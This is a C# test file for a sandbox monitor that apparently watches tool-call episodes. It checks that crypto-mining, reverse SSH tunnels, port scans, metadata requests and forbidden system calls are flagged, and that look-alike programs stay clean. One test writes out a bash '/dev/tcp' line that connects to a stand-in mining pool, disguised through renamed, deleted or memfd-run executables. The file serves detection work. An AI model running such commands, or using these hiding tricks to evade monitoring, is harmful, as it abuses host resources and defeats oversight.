using Aurelian.Episodes;
using Aurelian.Events;
using Aurelian.LinuxTests.Runs;
using Aurelian.Response;

namespace Aurelian.LinuxTests.Simulation;

/// <summary>The misbehaving programs and their look-alikes in a real sandbox, judged by the whole system.</summary>
public sealed class SandboxedProgramTests
{
    private const string Pool = "pool.moonshare.example";
    private const string Relay = "relay.overlook.example";

    /// <summary>Shaped like an address (95 characters of base 58) and nobody's.</summary>
    private const string Wallet =
        "48Worthess" + "Abcdefghijkmnopqrstuvwxyz123456789" + "ABCDEFGHJKLMNPQRSTUVWXYZ"
            + "123456789abcdefghijkmnopqrs";

    [Theory]
    [InlineData($"./miner_stratum.py {Pool} 3333")]
    [InlineData($"./miner_stratum.py {Pool} 443 --spaced")]
    [InlineData("./miner_stratum.py cdn.example 8443 --slowly")]
    [InlineData("./miner_stratum.py api.example 80 --http")]
    [InlineData($"./miner_stratum.py {Pool} 3333 --dialect xmr --worker {Wallet}")]
    [InlineData($"./miner_stratum.py {Pool} 3333 --dialect eth")]
    public async Task Mining_is_violating_in_every_dialect(string command)
    {
        RunSummary summary = await InProgramsAsync($"{command}; sleep 20");

        Assert.Equal(VerdictState.Violating, summary.Verdict());
        Assert.Equal("stratum", summary.Incident(Category.Mining).Flow!.Protocol);
        Assert.Equal(0, summary.Incident(Category.Mining).Flow!.BytesUpstream);
    }

    [Theory]
    [InlineData("./json_rpc_client.py api.example 8080")]
    [InlineData($"./miner_stratum.py {Pool} 8332 --dialect getwork")] // also how one asks one's own node
    [InlineData($"./git_over_ssh.sh {Relay}")]
    [InlineData("./probe_connect.py 10.77.0.0/24 22,80 --count 11")]
    [InlineData("./honest_fetch.py /simple/ http://a.mirror.example http://b.mirror.example http://192.0.2.9 " +
        "http://mirror.packages.example")]
    [InlineData("./renamed_exe.sh sleep 0.1; ./deleted_exe.sh sleep 0.1; ./memfd_exec.py sleep 0.1")]
    [InlineData("./flood_output.sh 4")]
    public async Task A_look_alike_stays_clean(string command)
    {
        RunSummary summary = await InProgramsAsync(command);

        Assert.DoesNotContain(summary.Incidents, incident => incident.Severity >= Severity.Medium);
        Assert.Equal(VerdictState.Clean, summary.Verdict());
    }

    [Theory]
    [InlineData("clustered")]
    [InlineData("option-case")]
    [InlineData("renamed")]
    [InlineData("copied")]
    [InlineData("config-file")]
    public Task A_reverse_tunnel_is_told_whatever_hides_it(string spelling) => TunnelAsync(spelling);

    // Every spelling is a run of its own: too many for each time, and the parser has its unit tests.
    [Theory(Explicit = true)]
    [MemberData(nameof(TunnelProgramTests.Spellings), MemberType = typeof(TunnelProgramTests))]
    public Task A_reverse_tunnel_is_told_in_every_spelling(string spelling) => TunnelAsync(spelling);

    [Theory]
    [InlineData("./probe_connect.py 10.77.0.0/24 22,80,6379,8080")]
    [InlineData("./probe_connect.py 10.77.0.0/24 22 --count 14 --delay 0.1")]
    [InlineData("./probe_udp.py 10.77.0.0/24 53,161")]
    [InlineData("./keyscan.sh 10.77.0 20")]
    public async Task A_probe_is_violating_whatever_it_says(string command)
    {
        RunSummary summary = await InProgramsAsync($"{command}; sleep 10");

        Assert.Equal(Severity.High, summary.Incident(Category.Probing).Severity);
        Assert.Equal(VerdictState.Violating, summary.Verdict());
    }

    [Theory]
    [InlineData("./metadata_by_address.py")]
    [InlineData("./metadata_by_name.py")]
    public async Task Asking_for_metadata_is_violating(string command)
    {
        RunSummary summary = await InProgramsAsync($"{command}; sleep 10");

        Assert.Equal(Severity.High, summary.Incident(Category.Metadata).Severity);
    }

    [Fact]
    public async Task Git_with_one_option_too_many_is_a_tunnel()
    {
        RunSummary summary = await InProgramsAsync($"./git_over_ssh.sh {Relay} --forwarding; sleep 5");

        Assert.Equal(Severity.High, summary.Incident(Category.Tunnel).Severity);
    }

    [Fact]
    public async Task Every_forbidden_call_is_refused()
    {
        RunSummary summary = await InProgramsAsync("""
            allowed=0
            for name in $(./forbidden_call.py --list); do
                ./forbidden_call.py "$name" || allowed=$((allowed + 1))
            done
            exit "$allowed"
            """);

        Assert.Equal(0, Assert.Single(summary.Episodes[0].ToolCalls).ExitCode);
        Assert.Equal(VerdictState.Suspect, summary.Verdict());
    }

    [Fact]
    public async Task Debugging_works_within_a_call_and_not_beyond_it()
    {
        RunSummary summary = await InProgramsAsync("""
            for name in $(./forbidden_call.py --list-of-others); do
                ./forbidden_call.py "$name" && exit 11
                ./forbidden_call.py "$name" 1 || exit 12
            done
            """);

        Assert.Equal(0, Assert.Single(summary.Episodes[0].ToolCalls).ExitCode);
    }

    [Theory]
    [InlineData("renamed_exe.sh", "/pytest")]
    [InlineData("deleted_exe.sh", "/tool")]
    [InlineData("memfd_exec.py", "memfd:worker")]
    public async Task A_hidden_program_is_named_by_what_it_really_is(string program, string expected)
    {
        const string deed = "exec 3<>/dev/tcp/" + Pool
            + """/3333; echo "{\"id\":1,\"method\":\"mining.subscribe\",\"params\":[]}" >&3; read -r -t 20 <&3""";

        RunSummary summary = await InProgramsAsync($"./{program} bash -c '{deed}'; sleep 10");

        Assert.Contains(expected, summary.Incident(Category.Mining).Process!.Exe, StringComparison.Ordinal);
    }

    private static async Task TunnelAsync(string spelling)
    {
        RunSummary summary = await InProgramsAsync($"./reverse_ssh.sh {spelling} {Relay}; sleep 5");

        // What a file says is not in the argv: all that is seen is SSH to the outside.
        (Severity severity, VerdictState verdict) = spelling == "config-file"
            ? (Severity.Medium, VerdictState.Suspect)
            : (Severity.High, VerdictState.Violating);
        Assert.Equal((severity, verdict), (summary.Incident(Category.Tunnel).Severity, summary.Verdict()));
    }

    private static async Task<RunSummary> InProgramsAsync(string command)
    {
        string policy = Path.GetTempFileName();
        try
        {
            await File.WriteAllTextAsync(policy, """
                [[allow]]
                name = "mirror.packages.example"
                ports = [80]
                protocol = "http"
                """, TestContext.Current.CancellationToken);
            return await Run.ExecuteAsync(Run.Config() with
            {
                WorkingFolder = Programs.Folder,
                PolicyFile = policy,
                Linger = TimeSpan.FromSeconds(0.5),
                Episodes = [new EpisodeConfig { Command = ["bash", "-c", command] }],
            });
        }
        finally
        {
            File.Delete(policy);
        }
    }
}
